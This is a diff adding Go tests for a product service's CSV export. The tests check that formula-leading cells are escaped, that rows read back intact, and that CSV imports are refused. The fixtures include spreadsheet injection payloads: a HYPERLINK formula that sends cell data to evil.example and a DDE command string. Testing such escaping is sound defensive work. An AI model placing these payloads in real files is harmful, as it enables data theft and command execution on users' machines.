@@ -0,0 +1,99 @@
+package main
+
+import (
+	"encoding/csv"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestCSVCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"":                 "",
+		"Desk Lamp":        "Desk Lamp",
+		"=1+1":             "'=1+1",
+		"+1 Lamp":          "'+1 Lamp",
+		"-1 Lamp":          "'-1 Lamp",
+		"@SUM(A1:A2)":      "'@SUM(A1:A2)",
+		"\t=1+1":           "'\t=1+1",
+		"\r=1+1":           "'\r=1+1",
+		"Lamp =1+1":        "Lamp =1+1",
+		"'already quoted":  "'already quoted",
+		"\"=1+1\" in text": "\"=1+1\" in text",
+	} {
+		if got := csvCell(in); got != want {
+			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestCSVExportAdversarial exports products whose text would break a
+// naive writer or run in a spreadsheet, and reads the export back with a
+// strict reader: every row as wide as the header, every value intact
+// but for the formula guard
+func TestCSVExportAdversarial(t *testing.T) {
+	s := newTestServer(t, func(cfg *Config) { cfg.NumProducts = 0 })
+	products := []Product{
+		{Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Description: "plain"},
+		{Name: "+1 Lamp", Description: "-5% off, today only"},
+		{Name: "@SUM(A1:A9)", Description: "=cmd|' /C calc'!A0"},
+		{Name: `Lamp "Deluxe", large`, Description: "line one\r\nline two, with \"quotes\"\nand a lone \" quote"},
+		{Name: "Tab Lamp", Description: "\t=1+1"},
+		{Name: "Trailing comma,", Description: ""},
+	}
+	for i := range products {
+		products[i].Category, products[i].Brand = "Home", "Alpha"
+		created, err := s.store.create(products[i])
+		if err != nil {
+			t.Fatal(err)
+		}
+		products[i].ID = created.ID
+	}
+
+	rec := serve(s.Routes(), http.MethodGet, "/products?format=csv&fields=id,name,description,brand", "", nil)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("export: %d %s", rec.Code, rec.Body)
+	}
+	cr := csv.NewReader(rec.Body)
+	// Zero takes the header's width and refuses any ragged row after it
+	cr.FieldsPerRecord = 0
+	rows, err := cr.ReadAll()
+	if err != nil {
+		t.Fatalf("the export doesn't read back: %v", err)
+	}
+	if len(rows) != len(products)+1 || strings.Join(rows[0], ",") != "id,name,description,brand" {
+		t.Fatalf("%d rows, header %v", len(rows), rows[0])
+	}
+	// encoding/csv reads a quoted CRLF back as a bare LF
+	lf := strings.NewReplacer("\r\n", "\n").Replace
+	for i, p := range products {
+		want := []string{p.ID.String(), csvCell(p.Name), lf(csvCell(p.Description)), p.Brand}
+		if got := rows[i+1]; strings.Join(got, "\x00") != strings.Join(want, "\x00") {
+			t.Errorf("row %d: %q, want %q", i+1, got, want)
+		}
+	}
+	for _, row := range rows[1:] {
+		for _, v := range row {
+			if v != "" && strings.IndexByte(csvFormulaPrefixes, v[0]) >= 0 {
+				t.Errorf("cell %q would run as a formula", v)
+			}
+		}
+	}
+}
+
+// TestCSVImportRefused sends an export, with a ragged row, back to the
+// import. Imports take JSON only, so the body is refused whole rather
+// than half read.
+func TestCSVImportRefused(t *testing.T) {
+	s := newTestServer(t, nil)
+	body := "id,name,category,description,brand\r\n" +
+		"1,Desk Lamp,Home,plain,Alpha\r\n" +
+		"2,Floor Lamp,Home\r\n"
+	rec := serve(s.Routes(), http.MethodPost, "/products/import", body, http.Header{"Content-Type": {"text/csv"}})
+	if rec.Code != http.StatusBadRequest && rec.Code != http.StatusUnsupportedMediaType {
+		t.Errorf("CSV import: %d %s", rec.Code, rec.Body)
+	}
+	if s.store.size() != testProducts {
+		t.Errorf("%d products after a refused import, want %d", s.store.size(), testProducts)
+	}
+}